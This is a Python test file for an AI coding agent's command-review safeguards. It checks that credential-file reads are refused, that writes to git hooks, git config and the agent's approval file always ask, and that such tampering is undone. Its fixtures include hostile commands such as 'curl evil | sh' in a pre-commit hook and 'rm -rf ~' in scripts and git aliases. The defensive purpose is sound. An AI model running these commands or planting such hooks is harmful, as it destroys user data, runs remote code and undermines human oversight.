"""The execute tool's look at the tree: globs as bash expands them, recursive reads, write targets,
words naming the data folder, a repository's config keys, and always-ask places put back."""

from __future__ import annotations

import pytest

from circle.application.tools.command_review import expand_glob, glob_matches, review_command
from circle.application.tools.protected_places import restore_changes, take_snapshot, watched
from circle.domain.approvals import classify_command
from circle.domain.errors import ToolError
from circle.domain.git_config import config_program_keys, program_key, shows_contents
from circle.domain.workspace import is_protected_path
from circle.testing import InMemoryFileSystem

from ._harness import WORKSPACE, Harness

HOME = "/home/ana"
DATA = "/home/ana/.local/share/circle"


def _harness(files: dict[str, str]) -> Harness:
    h = Harness()
    for path, text in files.items():
        h.files.put(path, text)
    return h


async def _review(h: Harness, command: str):  # type: ignore[no-untyped-def]
    ctx = h.context()
    ctx.home = HOME
    ctx.data_dir = DATA
    verdict = classify_command(command, workspace=WORKSPACE, home=HOME, data_dir=DATA)
    return await review_command(verdict, ctx)


@pytest.mark.parametrize(
    ("pattern", "name", "expected"),
    [
        ("*", "a.txt", True),
        ("*", ".env", False),
        (".*", ".env", True),
        (".[^.]*", ".env", True),
        (".[!.]*", ".envrc", True),
        ("?erver.*", "server.pem", True),
        ("*.py", "a.txt", False),
        ("[ab].txt", "b.txt", True),
    ],
)
def test_glob_components_match_as_bash_matches_them(pattern: str, name: str, expected: bool) -> None:
    assert glob_matches(pattern, name) is expected


async def test_a_glob_expands_against_the_tree_and_keeps_an_unmatched_pattern() -> None:
    h = _harness({f"{WORKSPACE}/deploy/server.pem": "k", f"{WORKSPACE}/deploy/notes.txt": "n"})
    ctx = h.context()
    assert sorted(await expand_glob(f"{WORKSPACE}/deploy/*", ctx) or []) == [
        f"{WORKSPACE}/deploy/notes.txt",
        f"{WORKSPACE}/deploy/server.pem",
    ]
    assert await expand_glob(f"{WORKSPACE}/nothing/*.x", ctx) == [f"{WORKSPACE}/nothing/*.x"]


@pytest.mark.parametrize("command", ["cat deploy/*", "cat .[^.]*", "cat < .envrc", "head deploy/?erver.*"])
async def test_a_read_that_reaches_a_credential_file_is_refused(command: str) -> None:
    h = _harness({f"{WORKSPACE}/deploy/server.pem": "k", f"{WORKSPACE}/.envrc": "export T=1"})
    with pytest.raises(ToolError, match="credential file"):
        await _review(h, command)


async def test_a_recursive_read_of_a_folder_holding_a_credential_file_always_asks() -> None:
    h = _harness({f"{WORKSPACE}/.env": "S=1", f"{WORKSPACE}/src/app.py": "x"})
    review = await _review(h, "grep -r S .")
    assert review.always_ask and ".env (a credential file)" in review.ask_reason
    clean = await _review(h, "grep -r S src")
    assert clean.safe and not clean.always_ask


async def test_a_recursive_read_finds_a_hard_link_to_a_credential_file() -> None:
    h = _harness({f"{WORKSPACE}/.env": "S=1", f"{WORKSPACE}/src/app.py": "x"})
    h.files.hardlink(f"{WORKSPACE}/src/notes.txt", f"{WORKSPACE}/.env")
    review = await _review(h, "grep -r S src")
    assert review.always_ask and "src/notes.txt" in review.ask_reason


async def test_a_write_through_a_symlink_into_the_hooks_always_asks() -> None:
    h = _harness({f"{WORKSPACE}/.git/hooks/pre-commit.sample": "x"})
    h.files.symlink(f"{WORKSPACE}/h", f"{WORKSPACE}/.git/hooks")
    review = await _review(h, "echo x > h/pre-commit")
    assert review.always_ask and review.protected_write and ".git/hooks" in review.ask_reason


@pytest.mark.parametrize("command", [f"ls {DATA}", 'cat "$CIRCLE_HOME/x"', "cat ~/.circle/agents/a.md"])
async def test_a_command_naming_the_data_folder_or_the_user_config_always_asks(command: str) -> None:
    review = await _review(_harness({}), command)
    assert review.always_ask and "always asks" in review.ask_reason


def test_only_the_repositorys_own_keys_that_run_a_program_count() -> None:
    listing = (
        "\0".join(
            [
                "global",
                "core.pager\nless",
                "local",
                "core.bare\nfalse",
                "local",
                "alias.st\nstatus",
                "local",
                "core.fsmonitor\nfalse",
            ]
        )
        + "\0"
    )
    assert program_key(listing) == ""
    assert program_key(listing + "local\0alias.x\n!rm -rf ~\0") == "alias.x"
    assert program_key(listing + "worktree\0diff.pdf.textconv\nevil\0") == "diff.pdf.textconv"
    assert program_key(listing + "local\0core.fsmonitor\ntouch x\0") == "core.fsmonitor"


def test_config_text_is_read_for_keys_that_run_a_program_or_include_a_file() -> None:
    text = '[core]\n\tbare = false\n[branch "main"]\n\tremote = origin\n'
    assert config_program_keys(text) == frozenset()
    assert ("core.fsmonitor", "touch x") in config_program_keys(text + "[core]\n\tfsmonitor = touch x\n")
    assert config_program_keys('[include]\n\tpath = ../x\n[filter "lfs"]\n\tclean = evil %f\n') == {
        ("include.path", "../x"),
        ("filter.lfs.clean", "evil %f"),
    }


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (("git", "log", "-p"), "log -p"),
        (("git", "log", "--oneline", "-3"), ""),
        (("git", "--no-pager", "show", "HEAD"), "show"),
        (("git", "status"), ""),
        (("git", "blame", "a.py"), "blame"),
    ],
)
def test_git_commands_that_show_contents_are_told_apart(argv: tuple[str, ...], expected: str) -> None:
    assert shows_contents(argv) == expected


async def test_always_ask_places_changed_unseen_are_put_back_and_a_new_repository_is_left() -> None:
    fs = InMemoryFileSystem(
        {
            f"{WORKSPACE}/.git/config": "[core]\n\tbare = false\n",
            f"{WORKSPACE}/.git/hooks/pre-push": "#!/bin/sh\nexit 0\n",
            f"{DATA}/approvals.json": "[]",
        }
    )
    files, folders = watched(WORKSPACE, data_dir=DATA, home=HOME)
    files.append(f"{WORKSPACE}/sub/.git/config")
    before = await take_snapshot(fs, files, folders)
    fs.put(f"{WORKSPACE}/.git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n")
    fs.put(f"{WORKSPACE}/.git/hooks/pre-push", "owned")
    fs.put(f"{WORKSPACE}/.git/config", '[core]\n\tbare = false\n[branch "x"]\n\tremote = o\n')
    fs.put(f"{DATA}/approvals.json", '[{"tool": "*", "pattern": "*", "effect": "allow"}]')
    fs.put(f"{WORKSPACE}/sub/.git/config", "[core]\n\tfsmonitor = evil\n")
    undone = await restore_changes(fs, before, files)
    assert len(undone) == 3, undone
    assert (await fs.read_bytes(f"{WORKSPACE}/.git/hooks/pre-push")).startswith(b"#!/bin/sh")
    assert await fs.stat(f"{WORKSPACE}/.git/hooks/pre-commit") is None
    assert await fs.read_bytes(f"{DATA}/approvals.json") == b"[]"
    assert b"remote = o" in await fs.read_bytes(f"{WORKSPACE}/.git/config")
    assert await fs.stat(f"{WORKSPACE}/sub/.git/config") is not None


@pytest.mark.parametrize(
    "command",
    [
        "echo '* filter=x' > .git/info/attributes",
        "cp a.txt .git/info/attributes",
        "cd sub && tee .git/info/attributes < a.txt",
        "echo x >> .GIT/Info/exclude",
    ],
)
async def test_a_write_into_git_info_always_asks(command: str) -> None:
    verdict = classify_command(command, workspace=WORKSPACE, home=HOME, data_dir=DATA)
    assert verdict.always_ask and ".git/info" in verdict.reason
    review = await _review(_harness({f"{WORKSPACE}/.git/info/exclude": ""}), command)
    assert review.always_ask and review.protected_write


async def test_git_info_is_an_always_ask_place_for_the_file_tools_and_is_put_back() -> None:
    assert is_protected_path(".git/info/attributes") and is_protected_path("sub/.git/info")
    h = _harness({f"{WORKSPACE}/.git/info/exclude": "# x\n"})
    assert h.context().always_ask_place(f"{WORKSPACE}/.git/info/attributes") == ".git/info/attributes"
    files, folders = watched(WORKSPACE, data_dir=DATA, home=HOME)
    before = await take_snapshot(h.files, files, folders)
    h.files.put(f"{WORKSPACE}/.git/info/attributes", "* filter=evil\n")
    h.files.put(f"{WORKSPACE}/.git/info/exclude", "changed")
    undone = await restore_changes(h.files, before, files)
    assert len(undone) == 2, undone
    assert await h.files.stat(f"{WORKSPACE}/.git/info/attributes") is None
    assert await h.files.read_bytes(f"{WORKSPACE}/.git/info/exclude") == b"# x\n"


WIPE = "rm -rf ~\n"


@pytest.mark.parametrize(
    ("command", "script", "text"),
    [
        ("bash x.sh", "x.sh", WIPE),
        ("sh x.sh", "x.sh", WIPE),
        ("bash < x.sh", "x.sh", WIPE),
        ("timeout -s9 5 bash x.sh", "x.sh", WIPE),
        ("source x.sh", "x.sh", WIPE),
        (". ./x.sh", "x.sh", WIPE),
        ("bash x.txt", "x.txt", "#!/usr/bin/python3\n" + WIPE),
        ("./x.sh", "x.sh", "#!/bin/sh\n" + WIPE),
        ("cd sub && ./run", "sub/run", "#!/usr/bin/env bash\n" + WIPE),
        ("sub/run", "sub/run", "echo hi\n" + WIPE),
        ("bash a.sh", "x.sh", WIPE),
    ],
)
async def test_a_script_holding_an_always_refused_command_is_refused(
    command: str, script: str, text: str
) -> None:
    h = _harness({f"{WORKSPACE}/{script}": text, f"{WORKSPACE}/a.sh": "echo start\nbash x.sh\n"})
    with pytest.raises(ToolError, match=r"^refused: .*(x\.sh|run|x\.txt), a script the command runs: rm -rf"):
        await _review(h, command)


async def test_a_script_whose_targets_are_known_only_when_it_runs_always_asks() -> None:
    h = _harness({f"{WORKSPACE}/x.sh": 'rm -rf "$1"\n'})
    review = await _review(h, "bash x.sh ~")
    assert review.always_ask and review.ask_reason.startswith("x.sh: ")
    assert not review.safe


async def test_a_harmless_script_asks_as_the_mode_says_and_is_not_known_read_only() -> None:
    h = _harness({f"{WORKSPACE}/x.sh": "echo hi\nls\n"})
    review = await _review(h, "bash x.sh")
    assert not review.always_ask and not review.safe


@pytest.mark.parametrize(
    ("command", "files", "reason"),
    [
        ("bash y.sh", {}, "y.sh does not exist before the command runs"),
        ("echo 'rm -rf ~' > x.sh; bash x.sh", {"x.sh": "echo hi\n"}, "may change x.sh before it runs"),
        ("cp /tmp/evil x.sh; sh x.sh", {"x.sh": "echo hi\n"}, "may change x.sh before it runs"),
        ("bash x.sh", {"x.sh": "echo x > .git/hooks/pre-commit\n"}, "x.sh: writes into .git/hooks"),
        ("bash x.sh", {"x.sh": "#" * 300_000}, "x.sh is larger than 256 KB"),
        ("bash $f", {}, "the script $f is known only when it runs"),
    ],
)
async def test_a_script_that_cannot_be_seen_as_it_will_run_always_asks(
    command: str, files: dict[str, str], reason: str
) -> None:
    h = _harness({f"{WORKSPACE}/{name}": text for name, text in files.items()})
    review = await _review(h, command)
    assert review.always_ask and reason in review.ask_reason, review.ask_reason


async def test_a_script_reading_a_credential_file_is_refused() -> None:
    h = _harness({f"{WORKSPACE}/x.sh": "cat deploy/server.pem\n", f"{WORKSPACE}/deploy/server.pem": "k"})
    with pytest.raises(ToolError, match=r"x\.sh, a script the command runs: .*credential file"):
        await _review(h, "bash x.sh")


async def test_programs_of_other_languages_are_not_read_as_shell_scripts() -> None:
    h = _harness(
        {f"{WORKSPACE}/x.py": "#!/usr/bin/env python3\nrm -rf ~\n", f"{WORKSPACE}/tool": "\x7fELF\x00"}
    )
    for command in ("./x.py", "./tool"):
        review = await _review(h, command)
        assert not review.always_ask and not review.safe
